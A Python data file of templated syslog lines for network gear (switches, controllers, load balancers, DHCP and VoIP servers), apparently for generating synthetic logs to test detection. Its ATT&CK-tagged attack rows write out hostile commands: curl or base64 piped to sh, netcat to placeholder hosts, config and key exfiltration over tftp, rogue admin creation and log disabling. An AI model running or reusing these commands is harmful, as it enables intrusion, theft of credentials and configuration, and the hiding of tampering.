# ruff: noqa: E501
"""Switches, routers, wireless controllers, load balancers, address servers and telephones in their own words.

A table for each product; a row is `head: text`, and devices.py writes it in the product's own form.
"""
from __future__ import annotations

from .device_marks import tables

_TEXT = r"""
@@ ios
# ios ports desks and phones
PORT_SECURITY-2-PSECURE_VIOLATION: Security violation occurred, caused by MAC address %cmac% on port %gi%. «New dock of «person»|Printer swapped|Desk moved, @ticket@»
DOT1X-5-«SUCCESS|FAIL»: «Authentication successful|Authentication failed» for client (%cmac%) on Interface %gi% AuditSessionID «HEX:24» Username: «host/«workstation».«ad»|«person»»
MAB-5-«SUCCESS|FAIL»: Authentication «successful|failed» for client (%cmac%) on Interface %gi% AuditSessionID «HEX:24»
AUTHMGR-5-«START|SUCCESS|VLANASSIGN»: «Starting 'dot1x' for client|Authorization succeeded for client|VLAN «num:10:400» assigned to» (%cmac%) on Interface %gi% AuditSessionID «HEX:24»
LINEPROTO-5-UPDOWN: Line protocol on Interface %gi%, changed state to «up|down»
ILPOWER-5-«POWER_GRANTED|IEEE_DISCONNECT|DETECT»: Interface %gi%: «Power granted|PD removed|Power Device detected: IEEE PD»
DHCP_SNOOPING-5-DHCP_SNOOPING_«UNTRUSTED_PORT|MATCH_MAC_FAIL»: DHCP_SNOOPING drop message «on untrusted port, message type: DHCPOFFER, MAC sa: %cmac%, home router of «person» at the desk|because the chaddr doesn't match source mac, message type: DHCPDISCOVER, docking station»
SPANTREE-2-BLOCK_BPDUGUARD: Received BPDU on port %gi% with BPDU Guard enabled. Disabling port. «phone with two ports|meeting room, cable patched twice|»
SW_MATM-4-MACFLAP_NOTIF: Host %cmac% in vlan «num:10:400» is flapping between port %gi% and port %gi%, «laptop roams|access point fails over|»
# ios routing and upkeep by day
SYS-5-CONFIG_I: Configured from «console|vty» by %who% on vty«num:0:4» («ip2»)
PARSER-5-CFGLOG_LOGGEDCMD: User:%who%  logged command:«interface %gi%|description «dept» «tech»|switchport access vlan «num:10:400»|no shutdown|ntp server «ip2»|logging host «ip2»|snmp-server location «city»|spanning-tree portfast|ip helper-address «ip2»|vlan «num:10:400»|archive config|username «other» privilege 5 secret *|ip access-list extended acl-«dept»|permit tcp host «ip2» host «ip2» eq 443»
BGP-5-ADJCHANGE: neighbor «peer» «Up|Down Peer closed the session|Down Interface flap|Down BGP Notification sent, maintenance of the carrier»
OSPF-5-ADJCHG: Process 1, Nbr «ip2» on %gi% from «LOADING to FULL, Loading Done|FULL to DOWN, Neighbor Down: Dead timer expired»
SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: %who%] [Source: «ip2»] [localport: 22] at «tick»:00 UTC
SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: «admin»] [Source: «ip2»] [localport: 22] [Reason: Login Authentication Failed] at «tick»:00 UTC
HA_EM-6-LOG: «backup_config: saved running-config to scp://«linux2»/«linux».cfg|iosdiag: memory below threshold|track: «city» uplink recovered»
SEC-6-IPACCESSLOGP: list acl-«dept» denied udp «ip»(%high%) -> «ip2»(«137|161|1900|5353»), «num:1:40» packets
SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host «ip2», new «monitoring poller|printer server|UPS»
SSH-5-SSH2_USERAUTH: User '%who%' authentication for SSH2 Session from «ip2» (tty = «num:0:4») using crypto cipher 'aes256-ctr', hmac 'hmac-sha2-256' Succeeded
IOSXE-5-PLATFORM: «R0/0: installer: Completed install activate of 17.«num:3:12».«num:1:6» in the window|guestshell stopped by «admin»|certificate of the web server renewed»
SYS-5-RELOAD: Reload requested by «admin» on vty0 («ip2»). Reload Reason: «@ticket@|upgrade|Reload Command».
# T1562.004 ios configuration bent by intruders
PARSER-5-CFGLOG_LOGGEDCMD: User:«user»  logged command:«username @junk@ privilege 15 secret *|no logging host «ip2»|no aaa new-model|snmp-server community @junk@ RW|ip http server|line vty 0 15, transport input all|monitor session 1 destination remote vlan 999|ip route 0.0.0.0 0.0.0.0 «pub»|interface Tunnel«num:1:9» tunnel destination «pub»|no access-list 101|permit ip any any|archive log config, no hidekeys|crypto key export rsa x pem url tftp://«pub»/|ip access-list extended WAN-IN, 1 permit tcp any any|no ip dhcp snooping|no port-security on every interface»
SYS-5-CONFIG_P: Configured programmatically by process «SEP_webui_wsma_http from console as «user» on vty«num:0:4»|iox from console as @junk@ on vty«num:0:15»»
SYS-5-CONFIG_I: Configured from «tftp://«pub»/«letters:4»|SNMP «pub»|vty by @junk@ on vty«num:0:15» («pub»)|ftp://@junk@@«pub»/r.cfg»
SEC_LOGIN-5-«LOGIN_SUCCESS|WEBLOGIN_SUCCESS»: Login Success [user: «@junk@|cisco_tac_admin|cisco_support|«user»»] [Source: «pub»] [localport: «22|23|443»] at «tick»:00 UTC
SEC_LOGIN-1-QUIET_MODE_ON: Still timeleft for watching failures is «num:0:60» secs, [user: @guessed@] [Source: «pub»] [localport: «22|23»] [Reason: Login Authentication Failed] [ACL: sl_def_acl]
SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host «pub»«, «num:20:900» communities tried|»
SMI-6-UPGRD_STARTED: Device (IP address: «ip») upgrade has started, Smart Install director «pub», file tftp://«pub»/«letters:4».«txt|cfg|tcl»
HA_EM-6-LOG: «letters:4»: «tclsh tftp://«pub»/«letters:4».tcl|event manager applet «letters:4» hides user @junk@ from show run|copy nvram:startup-config tftp://«pub»/»
GUESTSHELL-5-ENABLED: guestshell enabled by «user»; dohost of «curl http://«pub»/«letters:4» -o /bootflash/«letters:4»|chmod 777 /bootflash/.«letters:4»|ip netns exec 0 nc «pub» «port»»
SEC-6-IPACCESSLOGP: list WAN-IN permitted tcp «pub»(%high%) -> «ip»(«22|23|4786|161|80»), «num:1:900» packets
# T1557.002 ios frames and addresses forged
SW_DAI-4-DHCP_SNOOPING_DENY: «num:2:900» Invalid ARPs («Res|Req») on %gi%, vlan «num:10:400».([%cmac%/«ip2»/0000.0000.0000/«ip»/«tick»:01 UTC])
DHCP_SNOOPING-5-DHCP_SNOOPING_«UNTRUSTED_PORT|FAKE_INTERFACE»: DHCP_SNOOPING drop message on «untrusted port|fake interface», message type: «DHCPOFFER|DHCPACK», MAC sa: %cmac%, «num:30:900» offers with gateway «ip» and wpad option 252
PORT_SECURITY-2-PSECURE_VIOLATION: Security violation occurred, caused by MAC address %cmac% on port %gi%. «num:200:9000» addresses within «num:1:9» seconds
SPANTREE-2-ROOTGUARD_BLOCK: Root guard blocking port %gi% on VLAN«num:1000:1400», superior BPDU priority 0 from %cmac%
DTP-5-TRUNKPORTON: Port %gi% has become dot1q trunk, desk port of «dept», native vlan «num:1:400»
SW_MATM-4-MACFLAP_NOTIF: Host 0000.0c07.ac«hex:2» in vlan «num:10:400» is flapping between port %gi% and port Po1, address of the gateway
STANDBY-3-DUPADDR: Duplicate address «ip» on Vlan«num:10:400», sourced by %cmac%, priority 255 hello of a host
AUTHMGR-5-SECURITY_VIOLATION: Security violation on the interface %gi%, new MAC address (%cmac%) is seen. AuditSessionID «HEX:24» behind the authenticated host
DOT1X-5-FAIL: Authentication failed for client (%cmac%) on Interface %gi% AuditSessionID «HEX:24» Username: «@guessed@|host/kali|anonymous»«, EAPOL logoff forged «num:3:90» times|»
OSPF-4-ERRRCV: Received invalid packet: mismatch area ID, from backbone area must be virtual-link but not found from «ip», %gi%, hello of a desk port
@@ aruba
# aruba switches controllers and clearpass by day
mgr: SME SSH from «ip2» - MANAGER Mode: «user %who% logged in|session of %who% ended»
port-access: port «num:1:48» «client %cmac% authenticated by RADIUS as «person»|is Blocked by AAA, wrong password of «person»|moved to guest vlan «num:10:400»»
ports: port «num:1:48» is now «on-line|off-line»
stm: Station UP: MAC %mac% BSSID %mac% ESSID «site»-«corp|guest|iot» AP «word»-ap«num:1:40», deauth reason «Inactivity|STA has left|none»
authmgr: User Authentication «Successful|Successful|failed»: username=«person» MAC=%mac% IP=«ip» role=«dept» VLAN=«num:10:400» AP=«word»-ap«num:1:40» SSID=«site»-corp AAA profile=corp auth method=802.1x auth server=clearpass1
CPPM_Session_Detail: Common.Username=«person»,Common.Service=«site» 802.1X Wireless,Common.Roles=[User Authenticated] «dept»,Common.Host-MAC-Address=«hex:12»,RADIUS.Auth-Method=EAP-«TLS|PEAP»,Common.NAS-IP-Address=«ip2»,Common.Request-Timestamp=%now%,Common.Enforcement-Profiles=VLAN «num:10:400»,Common.Login-Status=«ACCEPT|ACCEPT|REJECT»
CPPM_Audit: Action=«MODIFY|ADD», Category=«Enforcement Policy|Network Device|Role Mapping|Guest User», Name=«word»-sw«num:1:40», User=«admin», Client-IP=«ip2», @ticket@
cli_mgr: Changed running config by %who%@«ip2»: «vlan «num:10:400» name «dept»|interface 1/«num:1:48» untagged vlan «num:10:400»|snmpv3 user monitor|ntp server «ip2»»
# T1200 aruba rogues and doors opened
wms: AM: «Rogue AP detected|Suspected rogue AP classified»: SSID «site»-«corp|guest» BSSID %mac% on channel «num:1:165» wired MAC seen on port «num:1:48» of «word»-sw«num:1:40»
wms: AM: «Deauth flood|Disconnect-Station attack|Honeypot AP: signature of airbase-ng|Invalid MAC OUI|AP spoofing: beacon of our BSSID %mac% with another encryption» seen by AP «word»-ap«num:1:40» RSSI «num:10:60», «num:40:9000» frames
authmgr: User Authentication «failed|Successful»: username=@guessed@ MAC=%mac% IP=«ip» role=«logon|root» VLAN=«num:10:400» AP=«word»-ap«num:1:40» SSID=«site»-corp AAA profile=corp auth method=«management|802.1x|MAC of a printer with fingerprint Linux» auth server=Internal
CPPM_Session_Detail: Common.Username=«hex:12»,Common.Service=MAC authentication,Common.Roles=[Printer] conflict true,Common.Host-MAC-Address=«hex:12»,Endpoint.Fingerprint=«Kali Linux|Raspberry Pi|Windows 10 was Printer»,Common.NAS-IP-Address=«ip2»,Common.Request-Timestamp=%now%,Common.Enforcement-Profiles=VLAN «num:10:400»,Common.Login-Status=ACCEPT
CPPM_Audit: Action=«MODIFY|ADD|REMOVE», Category=«Admin User|Enforcement Policy|Syslog Target|Authentication Source», Name=«@junk@|Allow All Access Profile for any|siem|LDAP bind password shown», User=«user», Client-IP=«pub»
cli_mgr: Changed running config by «user»@«pub»: «no aaa authentication port-access|password manager user-name @junk@|mirror 1 port a«num:1:24» every vlan|no logging «ip2»|ip authorized-managers removed|telnet-server enabled»
mgr: SME «SSH|TELNET|WEB» from «pub» - «Invalid user name/password on SSH session for @guessed@, «num:5:900» tries|MANAGER Mode: user manager logged in, default password»
@@ mikrotik
# mikrotik work by day
system,info,account: user %who% logged in from «ip2» via «winbox|ssh|api»
system,info: «filter rule changed by %who%|address list entry added by «svc»|dhcp lease changed by «admin»|ntp change time by «num:1:900» ms|item moved by «admin»|script «backup|ddns» run by scheduler, file «linux».backup sent to «linux2»|route added by «admin», @ticket@|package routeros 7.«num:1:16» installed, reboot at «tick»»
dhcp,info: «defconf|dhcp-«dept»» «assigned|deassigned» «ip» «for|from» %mac% «workstation»
wireless,info: %mac%@wlan«num:1:2»: «connected, signal strength -«num:40:80»|disconnected, received deauth: sending station leaving (3)|disconnected, extensive data loss»
firewall,info: forward: in:bridge out:ether1, connection-state:new src-mac %mac%, proto TCP (SYN), «ip»:%high%->«peer»:«443|80», len 60
system,error,critical: login failure for user %who% from «ip2» via «winbox|ssh», once
l2tp,ppp,info: «l2tp-«person»|sstp-«city»»: «connected|terminating... - peer is not responding|authenticated»
pppoe,ppp,info: pppoe-out1: «initializing...|connected|terminating... - peer is not responding»
# T1098 mikrotik boxes in other hands
system,info,account: user ««user»|admin|system|@junk@» logged in from «pub» via «winbox|ssh|api|telnet|ftp»
system,error,critical: login failure for user @guessed@ from «pub» via «ssh|winbox|api|telnet»
system,info: «user @junk@ added by «user», group full|socks changed by «user», enabled port «num:1024:65535» access «pub»|scheduler «letters:5» added by «user», interval 30s, /tool fetch url=http://«domain»/«letters:6» mode=http|filter rule removed by «user», the last drop|dns changed by «user», servers=«pub» allow-remote-requests=yes|nat rule added by «user», dst-nat 3389 to «ip»|sniffer changed by «user», streaming to «pub»|web proxy changed by «user», error.html with a script|l2tp server enabled by «user», secret @junk@|log action memory changed by «user», remote removed|ssh changed by «user», forwarding both»
script,error: script «letters:5» (/system script run): /import «letters:4».rsc from http://«pub»/ «failed|done» by «user»
l2tp,ppp,info: l2tp-@junk@: authenticated, «pub», remote address «ip»
wireless,info: %mac%@wlan1: «deauth flood, «num:200:9000» frames|connected with forged address of «workstation», signal strength -«num:20:40»»
@@ unifi
# unifi sites by day
CEF:0|Ubiquiti|UniFi Network|8.«num:0:6».«num:1:90»|«400|401|402»|«WiFi Client Connected|WiFi Client Disconnected|WiFi Client Roamed»|1|UNIFIcategory=Client Devices UNIFIsubCategory=WiFi UNIFIclientAlias=«workstation» UNIFIclientIp=«ip» UNIFIclientMac=%mac% UNIFIwifiName=«site» UNIFIWiFiRssi=-«num:40:80» msg=«workstation» connected to «site» on «word»-ap«num:1:40»
CEF:0|Ubiquiti|UniFi Network|8.«num:0:6».«num:1:90»|«544|546»|«Admin Made Config Changes|Admin Accessed UniFi Network»|2|UNIFIcategory=System UNIFIsubCategory=Admin UNIFIaccessMethod=«web|app» UNIFIsettingsSection=«WiFi|Networks|Port Profiles|Firewall Rules» UNIFIsettingsChanges=«1|2» UNIFIadmin=%who% src=%from% msg=%who% «changed the port profile of «word»-sw«num:1:40», @ticket@|accessed UniFi Network|added WLAN «dept»»
hostapd: ath«num:0:9»: STA %mac% IEEE 802.11: «associated|disassociated|authenticated|deauthenticated due to inactivity»
mcad: wireless_agg_stats.log_sta_anomalies(): bssid=%mac% radio=wifi«num:0:1» vap=ath«num:0:3» sta=%mac% satisfaction_now=«num:20:99» anomalies=«tcp_latency|low_phy_rate»
unifi-os: user %who% «logged in with SSO from %from%|failed login, code expired, «ip2»|started backup autobackup_«date».unf|adopted device «word»-ap«num:1:40»|updated UniFi OS to 3.«num:0:2».«num:1:20»»
# T1562 unifi consoles and radios abused
CEF:0|Ubiquiti|UniFi Network|8.«num:0:6».«num:1:90»|«544|546»|«Admin Made Config Changes|Admin Accessed UniFi Network»|«2|5»|UNIFIcategory=System UNIFIsubCategory=Admin UNIFIaccessMethod=«web|api» UNIFIsettingsSection=«Admins|Remote Syslog|Firewall Rules|SSH» UNIFIsettingsChanges=«num:3:30» UNIFIadmin=«user» src=«pub» msg=«user» «added super admin @junk@|removed remote syslog «linux2»|forwarded port 3389 to «ip» from any|set the ssh password of every device|turned off threat management»
CEF:0|Ubiquiti|UniFi Network|8.«num:0:6».«num:1:90»|201|Threat Detected and «Blocked|Logged»|7|proto=TCP src=««ip»|«pub»» spt=%high% dst=««ip2»|«pub»» dpt=«443|«port»|445» UNIFIcategory=Security UNIFIsubCategory=Intrusion Prevention UNIFIipsSignature=«ET MALWARE «Word» CnC Activity|ET SCAN Suspicious inbound to MSSQL port 1433|ET EXPLOIT UniFi Log4j Remember Field|ET TROJAN «Word» Beacon» UNIFIrisk=high msg=A network intrusion attempt was detected
hostapd: ath«num:0:9»: STA %mac% «WPA: 4-way handshake failed «num:20:900» times, possible PSK guess|IEEE 802.11: deauthenticated due to local deauth request, «num:200:9000» in a minute|MIC failure detected, countermeasures»
unifi-os: user ««user»|@junk@» «logged in with local password from «pub»|failed login «num:20:900» times from «pub»|downloaded full backup «site».unf from «pub»|changed x_shadow of administrator in ace.admin by mongo on 27117|disabled second factor of «admin»»
rogue: AP «word»-ap«num:1:40» sees SSID «site» from unknown BSSID %mac% «with open encryption|on channel «num:1:165» stronger than ours»
@@ bigip
# bigip policies pools and users by day
mcpd: 01070638:5: Pool /Common/pool_«tech» member /Common/«linux2»:«443|8080|8443» monitor status «down. [ /Common/https: down; last error: /Common/https: connect timed out ]|up. [ /Common/https: up ]»
mcpd: 01070727:5: Pool /Common/pool_«tech» member /Common/«linux2»:8080 monitor status up. [ was down for 0hr:«num:0:59»mins:«num:0:59»sec ]
tmsh: 01420002:5: AUDIT - pid=%pid% user=%who% folder=/Common module=(tmos)# status=[Command OK] cmd_data=«modify ltm pool pool_«tech» members modify { «linux2»:443 { session user-disabled } }|list ltm virtual vs_«tech»|save sys config|create ltm node «linux2» address «ip2»|show sys performance|install sys crypto cert «sitedomain» from-local-file /var/tmp/«date».crt|save sys ucs «date».ucs»
httpd: pam_audit: user=%who%(%who%) partition=[All] level=«Administrator|Operator|Guest» tty=(unknown) host=«ip2» attempts=1 start="%long%" «succeeded|failed, second try good».
apmd: 01490«500|517|010»:5: /Common/«word»-access:Common:«hex:8»: «New session from client IP %from% (ST=/CC=/C=) at VIP «pub» Listener /Common/vs_vpn|Username '«person»'|Session deleted due to user logout request.|AD agent: Auth (logon attempt:1): authenticate with '«person»' successful»
ASM: unit_hostname="«linux»",management_ip_address="«ip2»",web_application_name="/Common/«tech»",policy_name="/Common/«tech»",violations="«Illegal file type|Illegal parameter|Modified ASM cookie|»",support_id="«num:100000000:9999999999»",request_status="«passed|alerted»",response_code="«200|302|404»",ip_client="«visitor»",method="GET",protocol="HTTPS",uri="/«word»/«file»",severity="Informational",username="N/A",attack_type="N/A",geo_location="@near@"
# T1190 bigip management and pages attacked
tmsh: 01420002:5: AUDIT - pid=%pid% user=««user»|@junk@» folder=/Common module=(tmos)# status=[Command OK] cmd_data=«run util bash -c "«id|cat /config/bigip.conf|curl -k http://«pub»/«letters:4»¦sh|echo «b64:40»¦base64 -d¦sh»"|create auth user @junk@ password ****** partition-access add { all-partitions { role admin } }|modify sys syslog include none|modify auth source type local|create sys icall script «letters:5»|modify sys httpd allow all|save sys ucs /var/local/ucs/«letters:3».ucs, scp to «pub»|delete sys log-config publisher siem»
httpd: pam_audit: user=@guessed@(@guessed@) partition=[All] level=«Guest|Administrator» tty=(unknown) host=«pub» attempts=«num:1:3» start="%long%" «failed|failed|succeeded».
icrd: 5«num:100:999»,%pid%, RestServer, INFO, /mgmt/«tm/util/bash {"command":"run","utilCmdArgs":"-c id"}|tm/auth/user/@junk@ POST|shared/authz/users by X-F5-Auth-Token empty» from «pub», user «user»
apmd: 01490«500|517|010»:4: /Common/«word»-access:Common:«hex:8»: «New session from client IP «pub» (ST=/CC=@elsewhere@/C=) at VIP «pub» Listener /Common/vs_vpn|AD agent: Auth (logon attempt:«num:2:30»): authenticate with '@guessed@' failed|Session hijack: cookie MRHSession from «pub» was given to «ip2»»
ASM: unit_hostname="«linux»",management_ip_address="«ip2»",web_application_name="/Common/«tech»",policy_name="/Common/«tech»",violations="«Attack signature detected|Illegal meta character in value,Attack signature detected|Brute Force: Maximum login attempts are exceeded»",support_id="«num:100000000:9999999999»",request_status="«blocked|alerted|passed»",response_code="«0|200|500»",ip_client="«pub»",method="«GET|POST»",protocol="HTTPS",uri="/«tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp|«word».php|login|api/../../etc/passwd»",severity="«Critical|Error»",username="N/A",attack_type="«SQL-Injection|Path Traversal|Command Execution|Server Side Code Injection»",geo_location="@elsewhere@"
@@ dhcpserver
# dhcp leases and upkeep by day
dhcpd: DHCP«REQUEST for «ip» from %mac% («workstation») via eth«num:0:3»|ACK on «ip» to %mac% («workstation») via «ip2»|DISCOVER from %mac% via eth0|OFFER on «ip» to %mac% via eth0|RELEASE of «ip» from %mac% («workstation») via eth0 (found)|INFORM from «ip» via eth0»
dhcpd: «DHCPNAK on «ip» to %mac% via eth0, laptop came from home|uid lease «ip» for client %mac% is duplicate on @network@|DHCPDECLINE of «ip» from %mac% via eth0: not found|Dynamic and static leases present for «ip».|Wrote «num:20:9000» leases to leases file.|reuse_lease: lease age «num:60:900» (secs) under 25% threshold|balancing pool «hex:12» @network@ total «num:20:250»  free «num:20:90»  backup «num:20:90»»
kea-dhcp4: INFO DHCP4_«LEASE_ALLOC|LEASE_RENEW» [hwtype=1 %mac%], cid=[01:%mac%], tid=0x«hex:8»: lease «ip» has been allocated for «num:600:86400» seconds
kea-ctrl-agent: INFO CTRL_AGENT_COMMAND_FORWARDED command «config-get|lease4-get-all|config-reload|reservation-add» forwarded to dhcp4, «svc» from «ip2»
«10|11|12|16|24|30»: %dhcpday%,«Assign|Renew|Release|Deleted|Database Cleanup Begin|DNS Update Request»,«ip»,«workstation».«ad»,«HEX:12»,,«num:1000000000:4000000000»,0,,,,0x4D53465420352E30,MSFT 5.0,,,,0
httpd: %now%Z [%who%]: «Login_Allowed - - to=AdminConnector ip=«ip2» auth=«LOCAL|RADIUS|AD» group=«dept» apparently_via=GUI|Created HostAddress «ip2»: Set address="«ip2»",configure_for_dhcp=true,parent=HostRecord «linux2»|Modified DhcpRange @network@: Changed options: domain-name-servers "«ip2»"|Called - RestartServices: Args service_option=DHCP»
# T1557.003 dhcp rogues and drained pools
dhcpd: «DHCPDISCOVER from %mac% ("«letters:8»") via eth0, «num:200:9000» addresses asked within «num:2:60» seconds|DHCPOFFER of unknown server «ip» seen on eth0: router «ip», dns «ip»|DHCPREQUEST for «ip» («ip») from %mac% (kali) via eth0: wrong network.|abandoned IP address «ip»: pinged before offer, «num:20:200» in a row|DHCPRELEASE of «ip» from %mac% (forged for «workstation») via eth0, «num:20:200» releases in a second»
kea-dhcp4: WARN ALLOC_ENGINE_V4_ALLOC_FAIL [hwtype=1 %mac%], cid=[no info], tid=0x«hex:8»: failed to allocate an IPv4 address after «num:200:900» attempt(s), pool @network@
kea-ctrl-agent: «WARN|INFO» CTRL_AGENT_COMMAND_FORWARDED command «config-set with hook library /tmp/«letters:5».so|config-write /etc/cron.d/«letters:4»|lease4-wipe|option dns «pub» for all» forwarded to dhcp4, «user» from ««pub»|«ip2»»
«10|11|30|14»: %dhcpday%,«Assign|DNS Update Request|A lease request could not be satisfied because the scope's address pool was exhausted»,«ip»,«wpad|«server»|isatap|kali|«letters:12»».«ad»,«HEX:12»,,«num:1000000000:4000000000»,0,,,,,,,,,0
httpd: %now%Z [«user»]: «Login_Denied - - to=AdminConnector ip=«pub» info=«Local|RADIUS» apparently_via=API|Modified DhcpOptions @network@: Changed domain-name-servers "«ip2»" -> "«pub»"|Created AdminUser @junk@: Set superuser=true from «pub»|Created HostAddress «ip»: name wpad.«ad»|Modified Grid: syslog servers [«ip2»] -> [] by «user»|Deleted «num:30:900» fixed addresses»
@@ telephony
# telephony calls and registrations by day
SECURITY: res_security_log.c: SecurityEvent="«SuccessfulAuth|ChallengeSent|ChallengeResponseFailed»",EventTV="%isotz%",Severity="Informational",Service="PJSIP",EventVersion="1",AccountID="«num:100:999»",SessionID="«hex:16»",LocalAddress="IPV4/UDP/«ip2»/5060",RemoteAddress="IPV4/UDP/«ip»/«num:1024:65535»",UsingPassword="1"
NOTICE: res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:«num:100:999»@«ip2»>' failed for '«ip»:5060' (callid: «hex:16») - «Failed to authenticate, phone re-provisioned|No matching endpoint found, old phone of «person»»
VERBOSE: app_dial.c: Called PJSIP/«num:100:999»@«trunk|internal» for +49«num:100000000:999999999», answered «num:5:900» s, account «dept»
CALL: CDR cause=16 origDeviceName=SEP«HEX:12» callingPartyNumber=«num:1000:9999» finalCalledPartyNumber=«num:1000:9999» duration=«num:0:900» datetime=«epoch»
UC_AUDITLOG: UserID : %who% ClientAddress : «ip2» Severity : 5 EventType : «UserLogging|GeneralConfigurationUpdate|CDRsEvent» ResourceAccessed: CUCMAdmin EventStatus : Success CorrelationID : AuditDetails : «Successfully Logged into Cisco CCM Web Pages|record in table device with key field name = SEP«HEX:12» updated, @ticket@|Attempt to access report by «dept»» App ID: Cisco Tomcat Cluster ID: Node ID: «linux2»
# T1496 telephony tolls and registrations stolen
SECURITY: res_security_log.c: SecurityEvent="«InvalidAccountID|InvalidPassword|ChallengeResponseFailed|FailedACL|SuccessfulAuth»",EventTV="%isotz%",Severity="«Error|Informational»",Service="PJSIP",EventVersion="1",AccountID="«num:100:9999»",SessionID="«hex:16»",LocalAddress="IPV4/UDP/«pub»/5060",RemoteAddress="IPV4/UDP/«pub»/«num:1024:65535»",UsingPassword="1",UserAgent="«friendly-scanner|pplsip|VaxSIPUserAgent/3.1|Z 5.5|»"
NOTICE: res_pjsip/pjsip_distributor.c: Request '«REGISTER|INVITE|OPTIONS»' from '"«num:100:9999»" <sip:«num:100:9999»@«ip»>' failed for '«pub»:«num:1024:65535»' (callid: «hex:16») - «No matching endpoint found after 5 tries in 0.«num:100:999» ms|Failed to authenticate»
VERBOSE: app_dial.c: Called PJSIP/«num:100:999»@trunk for 00«972592|2526|53|88»«num:1000000:99999999», answered «num:900:9000» s at «tick», «num:20:400»th call of the night
CALL: CDR cause=16 origDeviceName=SIP-«pub» callingPartyNumber=«num:1000:9999» finalCalledPartyNumber=9011«num:100:999»«num:1000000:99999999» duration=«num:900:9000» datetime=«epoch»
UC_AUDITLOG: UserID : ««user»|@guessed@» ClientAddress : «pub» Severity : «3|5» EventType : «UserLogging|UserRoleMembershipUpdate|GeneralConfigurationUpdate» ResourceAccessed: «CUCMAdmin|CUCMServiceability|/cucm-uds/users» EventStatus : «Failure|Success» CorrelationID : AuditDetails : «Login failed, «num:20:900» tries|user @junk@ given Standard CCM Super Users|route pattern 9011! opened to every partition|ConfigFileCacheList.txt and SEP*.cnf.xml read in turn|audit logging disabled» App ID: Cisco Tomcat Cluster ID: Node ID: «linux2»
@@ others
# others of the edge at work by day
watchguard: id="3E00-0002" Management user %who%@«Firebox-DB|«ad»» from «ip2» «logged in|logged out|changed policy «dept»-out, @ticket@»
watchguard: msg_id="3000-0148" Allow 1-Trusted 0-External tcp «ip» «peer» %high% 443 msg="Application identified" app_name="«Office 365|Zoom»" src_user="«person»@«ad»" sent_bytes="@medium@" rcvd_bytes="@large@"
huawei: %%01«SHELL/5/CMDRECORD|SHELL/4/LOGIN|POLICY/6/POLICYDENY|IFNET/4/LINK_STATE»(l)[«num:1:90000»]:«Recorded command information. (Task=VT0, Ip=«ip2», User=%who%, Command="«display current-configuration|interface GigabitEthernet0/0/«num:1:24»|save|display logbuffer»")|VTY login from «ip2», user %who%|vsys=public, protocol=17, source-ip=«ip», source-port=%high%, destination-ip=«ip2», destination-port=161, rule=cleanup|Interface GigabitEthernet0/0/«num:1:24» has turned into UP state»
zyxel: src="«ip»:0" dst="«ip2»:443" msg="«Administrator %who% from http/https has logged in Device|User «person» from sslvpn has logged in Device|Configuration startup-config.conf saved by «admin»|Daily report sent»" note="Account: «admin»" user="«admin»" devID="«hex:12»" cat="User"
stormshield: id=firewall time="%now%" fw="«linux»" tz=+0000 startime="%now%" error=0 user="%who%" address=«ip2» sessionid=«num:1:99».«num:1:9999» msg="«CONFIG OBJECT HOST NEW name=h-«linux2» ip=«ip2»|AUTH|CONFIG SLOT ACTIVATE type=filter slot=«num:1:9», @ticket@|SYSTEM IDENT|MONITOR LOG»" logtype="server"
barracuda: «Allow|Block|Detect»: type=FWD|proto=TCP|srcIF=p2|srcIP=«ip»|srcPort=%high%|srcMAC=%mac%|dstIP=«peer»|dstPort=443|dstService=https|dstIF=p1|rule=LAN-2-INTERNET|info=«Normal Operation|Session Idle Timeout|Balanced»|srcNAT=«pub»|dstNAT=«peer»|duration=«num:0:9000»|count=1|receivedBytes=@large@|sentBytes=@medium@|user=«person»
openwrt: «dropbear[%pid%]: Pubkey auth succeeded for 'root' with ssh-ed25519 key SHA256:«mixed:43» from «ip2»:%high%|netifd: Interface 'wan' is now up|hostapd: phy0-ap0: STA %mac% IEEE 802.11: associated (aid «num:1:9»)|dnsmasq-dhcp[1]: DHCPACK(br-lan) «ip» %mac% «workstation»|uhttpd: [info] luci: accepted login on / for root from «ip2»»
meraki: 1«epoch».«num:100000:999999» «word»_ap«num:1:40» events «type=association radio='1' vap='0' client_mac='%mac%' channel='«num:1:165»' rssi='«num:10:60»' aid='«num:100000000:1999999999»'|type=8021x_eap_success port='' identity='«person»' radio='1' vap='1' client_mac='%mac%'|type=8021x_deauth radio='0' vap='1' client_mac='%mac%' identity='«person»'|dhcp lease of ip «ip» from server mac %mac% for client mac %mac% from router «ip2» on subnet 255.255.255.0 with dns «ip2»|Site-to-site VPN: IPsec-SA established: ESP/Tunnel «pub»[500]->«peer»[500] spi=«num:1000000:99999999»|port «num:1:48» status changed from 1Gfdx to down»
citrixadc: GUI CMD_EXECUTED «num:1000:99999» 0 :  User «admin» - ADM_User NONE - Remote_ip «ip2» - Command "«show ns runningConfig|bind lb vserver vs_«tech» svc_«linux2»|set ssl vserver vs_«tech» -tls1 DISABLED|save ns config|add ssl certKey «date» -cert «sitedomain».pem|login «admin» "********"»" - Status "Success"
# T1078.001 others of the edge in strange hands
watchguard: id="3E00-0002" Management user ««user»|status|admin|@junk@»@Firebox-DB from «pub» «logged in|changed policy Any-Any on top, log off|added Firebox user @junk@ as Device Administrator|exported the configuration file|login failed «num:5:900» times»
watchguard: msg_id="3000-0173" «Deny|Allow» «1-Trusted 0-External|0-External 2-DMZ» tcp «ip» «pub» %high% «port» msg="«IPS detected|APT threat detected|Botnet source|Geolocation»" signature_name="«EXPLOIT «Word» Buffer Overflow|WEB Remote Command Execution -«num:1:9»|C2 «Word»»" severity="«4|5»" src_user="«user»@«ad»" sent_bytes="@huge@" rcvd_bytes="@small@"
